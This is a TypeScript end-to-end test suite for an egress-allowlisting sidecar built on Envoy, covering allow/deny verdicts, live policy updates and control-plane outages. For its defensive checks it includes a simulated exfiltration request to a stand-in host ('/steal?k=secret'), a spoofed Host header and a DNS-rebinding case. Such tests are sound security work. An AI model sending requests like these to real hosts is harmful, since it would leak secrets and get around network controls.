/**
 * The foundation, end to end with the real Envoy 1.40 binary: allowlisted destinations only,
 * verdicts identical to `exitgate check`, live policy changes, invalid policies refused, and a
 * sidecar that keeps enforcing without its control plane. Loopback only (see demo/world.ts).
 */
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { startWorld, TLS_UPSTREAM_IP, HTTP_UPSTREAM_IP, type World, type Sidecar } from '../../src/demo/world';
import { connectThroughProxy, httpsViaConnect, httpViaProxy } from '../../src/demo/proxy-client';
import { startTcpTrap, type TcpTrap } from '../../src/demo/upstreams';
import { loadPolicyDir } from '../../src/policy/load';
import { buildAgentIr } from '../../src/ir/build-ir';
import { decide } from '../../src/ir/decide';
import { parseTarget } from '../../src/ir/target';
import type { PolicyError } from '../../src/policy/errors';
import { formatPolicyError } from '../../src/policy/errors';

import type { XdsProtocol } from '../../src/translate/options';

const NODE = { tenant: 'acme', agent: 'coder', instance: 'e2e-1' };

function policyYaml(p: { tls: number; http: number; trap: number; revokeApi?: boolean }): string {
  return `apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: coding, tenant: acme }
spec:
  agents: ["coder"]
  allow:
${p.revokeApi ? '' : `    - name: api
      hosts: ["api.allowed.test"]
      ports: [${p.tls}]
`}    - name: cdn
      hosts: ["*.cdn.allowed.test"]
      ports: [${p.tls}]
    - name: plain
      hosts: ["plain.allowed.test"]
      ports: [${p.http}]
    - name: rebind
      hosts: ["rebind.allowed.test"]
      ports: [${p.trap}]
  deny:
    - name: no-evil-cdn
      hosts: ["evil.cdn.allowed.test"]
---
apiVersion: exitgate.dev/v1
kind: EgressPolicy
metadata: { name: other-agent, tenant: acme }
spec:
  agents: ["someone-else"]
  allow:
    - name: exfil
      hosts: ["exfil.test"]
      ports: [${p.tls}, ${p.http}]
`;
}

interface Outcome {
  verdict: 'allow' | 'deny';
  status: number;
}

/** The whole allow/deny suite against a sidecar speaking one xDS protocol variant. */
export function egressSuite(protocol: XdsProtocol, options: { mtls?: boolean } = {}): void {
describe(`egress enforcement with a real Envoy (xDS ${protocol}${options.mtls ? ', mTLS' : ''})`, () => {
  let world: World;
  let sidecar: Sidecar;
  let trap: TcpTrap;
  let ports: { tls: number; http: number; trap: number };
  const policyFile = () => path.join(world.policiesDir, 'acme.yaml');

  async function writePolicy(text: string): Promise<void> {
    // Atomic replace, as an editor or `kubectl cp` would: the store never sees half a file.
    const tmp = `${policyFile()}.tmp-${process.pid}`;
    await fs.writeFile(tmp, text);
    await fs.rename(tmp, policyFile());
  }

  /** What Envoy does with a target, observed from the agent's side. */
  async function attempt(target: string, opts: { hostHeader?: string } = {}): Promise<Outcome> {
    const t = parseTarget(target);
    if (!t.ok) throw new Error(t.reason);
    if (t.value.kind === 'connect') {
      const r = await connectThroughProxy(sidecar.proxy, `${t.value.host}:${t.value.port}`);
      r.socket?.destroy();
      return { verdict: r.status === 200 ? 'allow' : 'deny', status: r.status };
    }
    const r = await httpViaProxy(sidecar.proxy, target, opts.hostHeader ? { hostHeader: opts.hostHeader } : {});
    return { verdict: r.status === 200 ? 'allow' : 'deny', status: r.status };
  }

  async function checkVerdict(target: string): Promise<string> {
    const set = await loadPolicyDir(world.policiesDir);
    if (!set.ok) throw new Error(set.errors.map(formatPolicyError).join('\n'));
    const t = parseTarget(target);
    if (!t.ok) throw new Error(t.reason);
    return decide(buildAgentIr(set.value, NODE.tenant, NODE.agent), t.value).verdict;
  }

  async function waitForVerdict(target: string, verdict: 'allow' | 'deny', timeoutMs = 5000): Promise<number> {
    const start = performance.now();
    for (;;) {
      if ((await attempt(target)).verdict === verdict) return performance.now() - start;
      if (performance.now() - start > timeoutMs) throw new Error(`${target} did not become ${verdict} within ${timeoutMs} ms`);
      await new Promise((r) => setTimeout(r, 5));
    }
  }

  beforeAll(async () => {
    const workDir = await fs.mkdtemp(path.join(os.tmpdir(), 'exitgate-e2e-'));
    world = await startWorld({ workDir, tlsNames: ['api.allowed.test', 'x.cdn.allowed.test'], mtls: !!options.mtls });
    trap = await startTcpTrap({ host: '127.0.0.1', name: 'control-plane-stand-in' });
    ports = { tls: world.tlsUpstream.port, http: world.httpUpstream.port, trap: trap.port };
    world.dns.setRecord('api.allowed.test', [TLS_UPSTREAM_IP]);
    world.dns.setRecord('x.cdn.allowed.test', [TLS_UPSTREAM_IP]);
    world.dns.setRecord('a.b.cdn.allowed.test', [TLS_UPSTREAM_IP]);
    world.dns.setRecord('cdn.allowed.test', [TLS_UPSTREAM_IP]);
    world.dns.setRecord('evil.cdn.allowed.test', [TLS_UPSTREAM_IP]);
    world.dns.setRecord('plain.allowed.test', [HTTP_UPSTREAM_IP]);
    world.dns.setRecord('exfil.test', [TLS_UPSTREAM_IP]);
    // DNS rebinding: an allowlisted name that resolves to loopback, where the trap listens.
    world.dns.setRecord('rebind.allowed.test', ['127.0.0.1']);
    await writePolicy(policyYaml(ports));
    sidecar = await world.addSidecar(NODE, { xdsProtocol: protocol });
    await waitForVerdict(`api.allowed.test:${ports.tls}`, 'allow', 10_000);
  }, 90_000);

  afterAll(async () => {
    await trap?.stop();
    await world?.stop();
  });

  it('carries a TLS conversation end to end through an allowed CONNECT', async () => {
    const r = await httpsViaConnect(sidecar.proxy, { host: 'api.allowed.test', port: ports.tls, path: '/v1/hello', caPem: world.ca.caPem });
    expect(r.connectStatus).toBe(200);
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body)).toMatchObject({ upstream: 'tls-upstream', url: '/v1/hello' });
  });

  it('forwards an allowed plain-HTTP absolute-URI request to the host in the URI, whatever Host says', async () => {
    const before = world.httpUpstream.requests.length;
    const r = await httpViaProxy(sidecar.proxy, `http://plain.allowed.test:${ports.http}/ping`, { hostHeader: 'exfil.test' });
    expect(r.status).toBe(200);
    const seen = world.httpUpstream.requests.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers.host).toBe(`plain.allowed.test:${ports.http}`);
  });

  it('denies an unlisted host with a 403 that names nothing internal, and never resolves it', async () => {
    world.dns.clearQueries();
    const r = await connectThroughProxy(sidecar.proxy, `exfil.test:${ports.tls}`);
    expect(r.status).toBe(403);
    const h = await httpViaProxy(sidecar.proxy, `http://exfil.test:${ports.http}/steal?k=secret`);
    expect(h.status).toBe(403);
    expect(h.body).not.toMatch(/coding|acme|coder|rule|policy|127\.|exfil/i);
    expect(world.dns.queriedNames().has('exfil.test')).toBe(false);
  });

  const cases: Array<[string, 'allow' | 'deny']> = [
    ['api.allowed.test:TLS', 'allow'],
    ['API.Allowed.Test.:TLS', 'allow'],
    ['x.cdn.allowed.test:TLS', 'allow'],
    ['a.b.cdn.allowed.test:TLS', 'allow'],
    ['cdn.allowed.test:TLS', 'deny'],
    ['evil.cdn.allowed.test:TLS', 'deny'],
    ['api.allowed.test.evil.test:TLS', 'deny'],
    ['exfil.test:TLS', 'deny'],
    ['api.allowed.test:8443', 'deny'],
    ['api.allowed.test:HTTP', 'deny'],
    ['127.0.0.2:TLS', 'deny'],
    ['[::1]:TLS', 'deny'],
    ['http://plain.allowed.test:HTTP/x', 'allow'],
    ['http://plain.allowed.test/x', 'deny'],
    ['http://exfil.test:HTTP/x', 'deny'],
    ['http://127.0.0.3:HTTP/x', 'deny'],
    ['https://api.allowed.test:TLS/', 'allow'],
  ];

  it.each(cases)('%s -> %s, and exitgate check agrees', async (template, expected) => {
    const target = template.replace(/TLS/g, String(ports.tls)).replace(/HTTP(?!:\/\/|S)/g, String(ports.http));
    const seen = await attempt(target);
    expect({ target, verdict: seen.verdict }).toEqual({ target, verdict: expected });
    if (expected === 'deny') expect([403, 0]).toContain(seen.status);
    expect(await checkVerdict(target)).toBe(seen.verdict);
  });

  it('refuses an allowlisted name that resolves to a guarded address (DNS rebinding)', async () => {
    world.dns.clearQueries();
    const r = await connectThroughProxy(sidecar.proxy, `rebind.allowed.test:${ports.trap}`);
    r.socket?.destroy();
    expect(r.status).not.toBe(200);
    // The attack was really tried: the name was allowed by policy and resolved by the sidecar.
    expect(await checkVerdict(`rebind.allowed.test:${ports.trap}`)).toBe('allow');
    expect(world.dns.queriedNames().has('rebind.allowed.test')).toBe(true);
    expect(trap.connections).toBe(0);
  });

  it('applies a policy edit without restarting Envoy', async () => {
    const pid = sidecar.envoy.pid;
    const target = `api.allowed.test:${ports.tls}`;
    await writePolicy(policyYaml({ ...ports, revokeApi: true }));
    const revokeMs = await waitForVerdict(target, 'deny');
    expect(await checkVerdict(target)).toBe('deny');
    await writePolicy(policyYaml(ports));
    const restoreMs = await waitForVerdict(target, 'allow');
    expect(sidecar.envoy.pid).toBe(pid);
    expect(sidecar.envoy.exitStatus).toBeUndefined();
    // Printed, not asserted: timing is a benchmark's job.
    console.log(`live policy update applied in ${revokeMs.toFixed(1)} ms (revoke) and ${restoreMs.toFixed(1)} ms (restore), Envoy pid ${pid} unchanged`);
  });

  it('rejects an invalid policy with file and path, and keeps the previous verdicts', async () => {
    const errors = new Promise<PolicyError[]>((resolve) => world.cp.store.once('invalid', resolve));
    const bad = policyYaml(ports).replace('"*.cdn.allowed.test"', '"*.*.allowed.test"');
    await writePolicy(bad);
    const reported = (await errors).map(formatPolicyError);
    expect(reported).toContain('policies/acme.yaml: doc 1: spec.allow[1].hosts[0]: "*.*.allowed.test" is not a valid host pattern');
    expect((await attempt(`x.cdn.allowed.test:${ports.tls}`)).verdict).toBe('allow');
    expect((await attempt(`exfil.test:${ports.tls}`)).verdict).toBe('deny');
    await writePolicy(policyYaml(ports));
  });

  it('keeps enforcing with the control plane down, and a restart with unchanged policy re-sends nothing', async () => {
    await world.stopControlPlane();
    expect((await attempt(`api.allowed.test:${ports.tls}`)).verdict).toBe('allow');
    expect((await attempt(`exfil.test:${ports.tls}`)).verdict).toBe('deny');
    expect((await attempt(`http://plain.allowed.test:${ports.http}/`)).verdict).toBe('allow');
    await world.restartControlPlane();
    // The reconnected sidecar must have re-subscribed to every type it uses (so the server really
    // compared versions), and have been sent nothing.
    const requested = async (type: string) => (await world.cp.metrics.requests.get()).values.find((v) => v.labels.type === type)?.value ?? 0;
    const deadline = Date.now() + 15_000;
    for (const type of ['Cluster', 'Listener', 'RouteConfiguration']) {
      while ((await requested(type)) === 0) {
        if (Date.now() > deadline) throw new Error(`Envoy did not re-subscribe to ${type} after the restart`);
        await new Promise((r) => setTimeout(r, 25));
      }
    }
    await new Promise((r) => setTimeout(r, 300));
    const pushes = await world.cp.metrics.pushes.get();
    expect(pushes.values.filter((v) => v.value > 0)).toEqual([]);
    expect((await attempt(`api.allowed.test:${ports.tls}`)).verdict).toBe('allow');
    expect((await attempt(`exfil.test:${ports.tls}`)).verdict).toBe('deny');
  });
});
}
